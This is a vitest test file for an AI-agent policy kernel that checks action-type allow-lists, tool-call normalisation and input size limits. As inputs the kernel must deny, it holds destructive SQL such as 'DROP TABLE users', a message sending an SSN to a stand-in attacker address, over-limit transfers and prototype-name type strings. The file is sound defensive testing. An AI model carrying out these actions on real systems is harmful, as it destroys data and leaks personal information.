// Closed by default: undeclared action types, registered tools in every shape, and the input size limit,
// on the real kernel with the default bundle and rules.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FlightRecorder } from "../../src/audit/flight-recorder.js";
import { createPolicyKernel } from "../../src/kernel/create-kernel.js";
import type { PolicyKernel } from "../../src/kernel/types.js";
import { closestType, DEFAULT_ACTION_TYPES } from "../../src/kernel/action-types.js";
import { isPolicyKernelError } from "../../src/errors.js";
import type { Decision } from "../../src/schemas.js";

let kernel: PolicyKernel;
beforeAll(async () => {
  kernel = await createPolicyKernel();
});
afterAll(() => kernel.close());

const NOW = "2026-11-23T10:00:00Z"; // a Monday, inside business hours
const ask = (action: Record<string, unknown>, role = "admin", k: PolicyKernel = kernel) => k.evaluateUntrusted({ agentId: "a", action, context: { role, now: NOW } });
const rules = (decision: Decision) => decision.violations.map((v) => `${v.policy}/${v.rule}`);

describe("action types: exact names from an allow-list", () => {
  it("declares the default library's four types", () => {
    expect(DEFAULT_ACTION_TYPES).toEqual(["message", "sql", "tool_call", "transaction"]);
  });

  it("denies a near miss of a declared type and names the closest one", async () => {
    const cases: [Record<string, unknown>, string][] = [
      [{ type: "SQL", sql: "DROP TABLE users" }, "sql"],
      [{ type: "sql ", sql: "DELETE FROM users" }, "sql"],
      [{ type: " sql", sql: "TRUNCATE logs" }, "sql"],
      [{ type: "Transaction", amountUsd: 1e6, recipient: "x" }, "transaction"],
      [{ type: "tool-call", tool: "sql_query", args: { sql: "DROP TABLE users" } }, "tool_call"],
      [{ type: "messages", to: "evil@attacker.io", text: "ssn 123-45-6789" }, "message"],
    ];
    for (const [action, closest] of cases) {
      const decision = await ask(action);
      expect(decision.allowed).toBe(false);
      expect(rules(decision)).toEqual(["kernel/unknown_action_type"]);
      expect(decision.violations[0]!.description).toContain(`action type ${JSON.stringify(action["type"])} is not declared`);
      expect(decision.violations[0]!.description).toContain(`the closest declared type is "${closest}"`);
      expect(decision.violations[0]).toMatchObject({ severity: "critical", blocked: true, source: "kernel" });
    }
  });

  it("denies any other type, prototype names included", async () => {
    for (const type of ["query", "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype", "shell", "x".repeat(10_000)]) {
      const decision = await ask({ type, sql: "DROP TABLE users" });
      expect(rules(decision), type).toEqual(["kernel/unknown_action_type"]);
      // A hostile type name is cut short in the description.
      expect(decision.violations[0]!.description.length).toBeLessThan(300);
    }
  });

  it("picks the closest type by edit distance after trimming and case-folding, ties in code-unit order", () => {
    const declared = new Set(DEFAULT_ACTION_TYPES);
    expect(closestType("SQL", declared)).toBe("sql");
    expect(closestType("  TOOL_CALL ", declared)).toBe("tool_call");
    expect(closestType("messag", declared)).toBe("message");
    expect(closestType("anything", new Set<string>())).toBeUndefined();
  });

  it("takes more types from the kernel option or the bundle data, and rejects a malformed list at load", async () => {
    const deploy = { type: "deploy", target: "prod" };
    const byOption = await createPolicyKernel({ actionTypes: ["deploy", "sql"] });
    expect((await ask(deploy, "admin", byOption)).allowed).toBe(true);
    // The option is the whole list: a type it leaves out is denied.
    expect(rules(await ask({ type: "message", to: "a@example.com", text: "hi" }, "admin", byOption))).toEqual(["kernel/unknown_action_type"]);
    byOption.close();
    const byData = await createPolicyKernel({ data: { policy_kernel: { action_types: ["deploy"] } } });
    expect((await ask(deploy, "admin", byData)).allowed).toBe(true);
    expect((await ask({ type: "sql", sql: "SELECT 1" }, "admin", byData)).allowed).toBe(true);
    byData.close();
    for (const bad of ["deploy", [""], [1], null]) {
      const error = await createPolicyKernel({ data: { policy_kernel: { action_types: bad } } }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(isPolicyKernelError(error, "invalid_config"), JSON.stringify(bad)).toBe(true);
      expect(String(error)).toContain("data.policy_kernel.action_types");
    }
    await expect(createPolicyKernel({ actionTypes: [""] })).rejects.toThrow(/actionTypes/);
  });
});

describe("tool registry: one payload, one decision, in every shape", () => {
  const POLICIES = new Set(["sql", "pii", "transactions"]);
  const judged = (decision: Decision) => ({
    allowed: decision.allowed,
    violations: decision.violations.filter((v) => POLICIES.has(v.policy)),
  });
  // Each payload: its native form, then every tool form that carries it.
  const PAYLOADS: Record<string, { role: string; native: Record<string, unknown>; tools: Record<string, unknown>[]; allowed: boolean }> = {
    "DROP TABLE": {
      role: "admin",
      native: { type: "sql", sql: "DROP TABLE users" },
      tools: [{ tool: "sql_query", args: { sql: "DROP TABLE users" } }, { tool: "sql_query", args: { query: "DROP TABLE users" } }],
      allowed: false,
    },
    "DELETE without WHERE": {
      role: "admin",
      native: { type: "sql", sql: "DELETE FROM users" },
      tools: [{ tool: "sql_query", args: { sql: "DELETE FROM users" } }, { tool: "sql_query", args: { query: "DELETE FROM users", limit: 10 } }],
      allowed: false,
    },
    "PII to an external domain": {
      role: "admin",
      native: { type: "message", to: "evil@attacker.io", text: "SSN on file: 123-45-6789" },
      tools: [
        { tool: "send_message", args: { to: "evil@attacker.io", text: "SSN on file: 123-45-6789" } },
        { tool: "send_email", args: { to: ["evil@attacker.io"], body: "SSN on file: 123-45-6789" } },
      ],
      allowed: false,
    },
    "an over-limit transfer": {
      role: "admin",
      native: { type: "transaction", amountUsd: 50_000, recipient: "acme" },
      tools: [
        { tool: "transfer_funds", args: { amount: 50_000, recipient: "acme" } },
        { tool: "make_payment", args: { amountUsd: 50_000, payee: "acme", memo: "q3" } },
      ],
      allowed: false,
    },
    "a read with a WHERE": {
      role: "admin",
      native: { type: "sql", sql: "SELECT name FROM users WHERE id = 42" },
      tools: [{ tool: "sql_query", args: { sql: "SELECT name FROM users WHERE id = 42" } }],
      allowed: true,
    },
    "an internal message": {
      role: "admin",
      native: { type: "message", to: "ops@example.com", text: "deploy done" },
      tools: [{ tool: "send_message", args: { to: "ops@example.com", body: "deploy done" } }],
      allowed: true,
    },
  };

  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`${name}: the native form and every tool form get the same allowed and sql/pii/transactions violations`, async () => {
      const native = judged(await ask(payload.native, payload.role));
      expect(native.allowed).toBe(payload.allowed);
      if (!payload.allowed) expect(native.violations.length).toBeGreaterThan(0);
      for (const call of payload.tools) {
        const decision = await ask({ type: "tool_call", ...call }, payload.role);
        const tool = judged(decision);
        // The tools policy may deny the tool for the role on top; an allowed native form needs an allowed tool here.
        if (payload.allowed) expect(decision.allowed, JSON.stringify(call)).toBe(true);
        expect(tool.violations, JSON.stringify(call)).toEqual(native.violations);
        if (!payload.allowed) expect(decision.allowed).toBe(false);
      }
    });
  }

  it("still asks the tools policy whether the role may call the tool", async () => {
    const decision = await ask({ type: "tool_call", tool: "sql_query", args: { sql: "SELECT 1 FROM users WHERE id = 1" } }, "support");
    expect(rules(decision)).toEqual(["tools/tool_not_allowed"]);
  });

  it("denies a registered tool whose args do not fit", async () => {
    const misfits: [Record<string, unknown>, RegExp][] = [
      [{ tool: "sql_query", args: {} }, /registered as sql, but its args carry none of args\.sql, args\.query/],
      [{ tool: "sql_query" }, /none of args\.sql/],
      [{ tool: "sql_query", args: { sql: 42 } }, /args\.sql is not a string/],
      [{ tool: "sql_query", args: { sql: "SELECT 1", query: ["DROP TABLE users"] } }, /args\.query is not a string/],
      [{ tool: "send_email", args: { body: "hi" } }, /no recipient/],
      [{ tool: "send_email", args: { to: { address: "x@example.com" }, body: "hi" } }, /args\.to is neither a string nor a list of strings/],
      [{ tool: "transfer_funds", args: { amount: "100", recipient: "acme" } }, /args\.amount is not a finite amount/],
      [{ tool: "transfer_funds", args: { amount: 5, amountUsd: 50_000, recipient: "acme" } }, /different amounts/],
      [{ tool: "transfer_funds", args: { amount: 5, recipient: "acme", to: "evil" } }, /different recipients/],
      [{ tool: "make_payment", args: { amount: 5 } }, /no recipient/],
    ];
    for (const [call, message] of misfits) {
      const decision = await ask({ type: "tool_call", ...call });
      expect(decision.allowed, JSON.stringify(call)).toBe(false);
      const misfit = decision.violations.find((v) => v.rule === "tool_args_mismatch");
      expect(misfit?.description, JSON.stringify(call)).toMatch(message);
    }
  });

  it("analyses every SQL arg a tool carries, and every recipient and text of a message tool", async () => {
    expect((await ask({ type: "tool_call", tool: "sql_query", args: { sql: "SELECT 1 FROM t WHERE id = 1", query: "DROP TABLE users" } })).allowed).toBe(false);
    const cc = await ask({ type: "tool_call", tool: "send_message", args: { to: "ops@example.com", cc: "evil@attacker.io", subject: "SSN 123-45-6789", body: "see subject" } });
    const native = await ask({ type: "message", to: "ops@example.com, evil@attacker.io", text: "SSN 123-45-6789\nsee subject" });
    expect(judged(cc)).toEqual(judged(native));
    expect(cc.allowed).toBe(false);
  });

  it("is configurable by kernel option and bundle data, and validated at load", async () => {
    const custom = await createPolicyKernel({ toolRegistry: { run_statement: { as: "sql", sql: ["statement"] }, sql_query: false } });
    const viaCustom = await ask({ type: "tool_call", tool: "run_statement", args: { statement: "DROP TABLE users" } }, "admin", custom);
    expect(rules(viaCustom)).toContain("sql/denied_statement");
    // Unregistered: only the tools policy speaks (admin may call sql_query).
    expect((await ask({ type: "tool_call", tool: "sql_query", args: { sql: "DROP TABLE users" } }, "admin", custom)).allowed).toBe(true);
    custom.close();
    const fromData = await createPolicyKernel({ data: { policy_kernel: { tool_registry: { wire: { as: "transaction", amountUsd: ["usd"], recipient: ["dest"] } } } } });
    expect(rules(await ask({ type: "tool_call", tool: "wire", args: { usd: 50_000, dest: "acme" } }, "admin", fromData))).toContain("transactions/over_role_limit");
    fromData.close();
    const bad: [Parameters<typeof createPolicyKernel>[0], RegExp][] = [
      [{ toolRegistry: { x: { as: "sql" } } as never }, /toolRegistry/],
      [{ data: { policy_kernel: { tool_registry: { x: { as: "shell", cmd: ["c"] } } } } }, /data\.policy_kernel\.tool_registry\.x/],
      [{ data: { policy_kernel: { tool_registry: { x: { as: "sql", sql: [] } } } } }, /data\.policy_kernel\.tool_registry\.x\.sql/],
      [{ data: { policy_kernel: { tool_registry: ["sql_query"] } } }, /data\.policy_kernel\.tool_registry/],
    ];
    for (const [options, field] of bad) {
      const error = await createPolicyKernel(options).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(isPolicyKernelError(error, "invalid_config"), String(error)).toBe(true);
      expect(String(error)).toMatch(field);
    }
  });
});

describe("input size limit", () => {
  it("denies an action over maxActionBytes unread, and records that it did", async () => {
    const recorder = new FlightRecorder({ chainId: "size", clock: () => new Date(NOW) });
    const small = await createPolicyKernel({ maxActionBytes: 1024, recorder });
    expect(small.maxActionBytes).toBe(1024);
    const decision = await small.evaluate({ agentId: "a", action: { type: "sql", sql: `SELECT '${"x".repeat(2_000)}'` } });
    expect(rules(decision)).toEqual(["kernel/action_too_large"]);
    expect(decision.violations[0]!.description).toBe("action is larger than maxActionBytes (1024 bytes); it was not analysed");
    const [entry] = recorder.entries();
    expect(entry).toMatchObject({ type: "policy_check", agentId: "a", action: { type: "sql" }, decision: { allowed: false } });
    expect(recorder.verify().valid).toBe(true);
    expect((await small.evaluate({ agentId: "a", action: { type: "sql", sql: "SELECT 1" } })).allowed).toBe(true);
    small.close();
  });

  it("holds a 10 MB SQL string and a 10 MB message to the default 4 MiB limit", async () => {
    expect(kernel.maxActionBytes).toBe(4 * 1024 * 1024);
    const huge = "SELECT 1; ".repeat(1_000_000);
    expect(rules(await ask({ type: "sql", sql: huge }))).toEqual(["kernel/action_too_large"]);
    expect(rules(await ask({ type: "message", to: "a@example.com", text: "1".repeat(10_000_000) }))).toEqual(["kernel/action_too_large"]);
  });

  it("denies what is not plain data, recording the attempt without running the agent's code", async () => {
    const recorder = new FlightRecorder({ chainId: "plain", clock: () => new Date(NOW) });
    const recording = await createPolicyKernel({ recorder });
    let reads = 0;
    const body = { type: "sql", get sql() { reads += 1; return "SELECT 1"; } };
    const decision = await recording.evaluate({ agentId: "a", action: body });
    expect(rules(decision)).toEqual(["kernel/invalid_action"]);
    expect(reads).toBe(0);
    expect(recorder.entries()[0]).toMatchObject({ agentId: "a", action: { type: "sql" }, decision: { allowed: false } });
    const proxied = await recording.evaluate(new Proxy({ agentId: "a", action: { type: "sql", sql: "SELECT 1" } }, {}));
    expect(proxied.violations[0]!.description).toBe("action is a Proxy; an action is plain data");
    expect(recorder.entries()[1]).toMatchObject({ agentId: "(invalid)", action: { type: "(invalid)" } });
    recording.close();
  });
});
